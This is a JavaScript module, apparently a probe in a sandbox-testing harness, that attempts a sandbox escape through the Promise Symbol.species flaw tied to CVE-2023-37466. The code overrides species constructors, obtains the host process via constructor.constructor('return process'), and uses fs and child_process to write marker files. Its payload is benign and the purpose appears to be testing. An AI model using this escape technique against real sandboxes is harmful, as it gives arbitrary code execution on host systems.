// Escape attempt: CVE-2023-37466 / GHSA-qvjj-29qf-hp7p: a Promise whose constructor[Symbol.species] is attacker-controlled receives a host rejection in its executor.
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-promise-species',
  description: 'sandbox escape attempt: promise-species',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    async function fn() { (function stack() { new Error().stack; stack(); })(); }
    const p = fn();
    p.constructor = { [Symbol.species]: class FakePromise { constructor(executor) { executor((x) => x, (err) => { attempt(notes, "species err", () => pwn(err.constructor.constructor("return process")(), marker, notes, "species rejection")); }); } } };
    attempt(notes, "then", () => p.then());
    const q = ctx.services();
    q.constructor = { [Symbol.species]: class Fake2 { constructor(executor) { executor((v) => { attempt(notes, "v", () => pwn(v.constructor.constructor("return process")(), marker, notes, "species value")); }, () => {}); } } };
    attempt(notes, "then2", () => q.then());
    await q;
    return { summary: notes.join(' | '), data: notes };
  },
};
